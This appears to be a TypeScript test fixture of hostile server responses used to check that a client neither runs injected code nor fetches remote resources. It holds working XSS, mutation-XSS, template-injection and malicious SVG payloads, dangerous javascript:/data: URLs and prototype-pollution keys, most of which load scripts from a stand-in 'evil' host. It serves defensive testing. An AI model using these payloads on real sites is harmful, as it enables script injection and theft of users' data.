/** Hostile texts for answers of a server. Code that runs sets `window.poisonRan`; requests go to `evil`. */

const run = "window.poisonRan=1";

/** Texts of different classes, which some code could treat as markup, code, addresses or names. */
export function poisonTexts(evil: string): readonly string[] {
  const image = `<img src="${evil}/image" onerror="${run}">`;
  return [
    `<script>${run}</script><script src="${evil}/script"></script>`,
    image,
    `"'></textarea></title></style><svg onload=${run}><animate onbegin=${run} attributeName=x dur=1s>`,
    `<iframe src="${evil}/frame" srcdoc="<script>parent.poisonRan=1</script>"></iframe>`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${image}">`,
    `<svg></p><style><a title="</style>${image}">`,
    `<form action="${evil}/form"><input name=attributes><button formaction="javascript:${run}">`,
    `<a href="javascript:${run}" ping="${evil}/ping">a</a><base href="${evil}/">`,
    `javascript:${run}`,
    `data:text/html,<script>opener.poisonRan=1</script>`,
    `{{constructor.constructor("${run}")()}} \${${run}} <%= ${run} %> #{${run}}`,
    "\u202eexe.\u2066\u2067gnp\u200b\ufeff\u0007",
    "__proto__ constructor prototype hasOwnProperty toString",
    "lone \ud800 surrogates \udfff",
    `long ${"Ŵ".repeat(2_000)}`,
  ];
}

/** Addresses that no link may follow and no picture may run. */
export function poisonAddresses(evil: string): readonly string[] {
  return [
    `javascript:${run}//`,
    `\u0001java\tscript:${run}//`,
    `data:text/html,<script>opener.poisonRan=1</script>`,
    `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"/>`,
    `vbscript:${run}`,
    `blob:${evil}/x`,
    `https://user:secret@${new URL(evil).host}/`,
  ];
}

/** An SVG file that would run code and send requests if it were not only a picture. */
export function poisonSvg(evil: string): string {
  return `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="40" height="20" onload="${run}">
    <script>top.poisonRan=1</script><script href="${evil}/svg-script"/>
    <style>@import "${evil}/svg-style"; rect { fill: url(${evil}/svg-fill#x) }</style>
    <image href="${evil}/svg-image" width="1" height="1"/><use xlink:href="${evil}/svg-use#x"/>
    <foreignObject width="9" height="9"><img xmlns="http://www.w3.org/1999/xhtml" src="${evil}/svg-img" onerror="top.poisonRan=1"/></foreignObject>
    <rect width="40" height="20"/></svg>`;
}
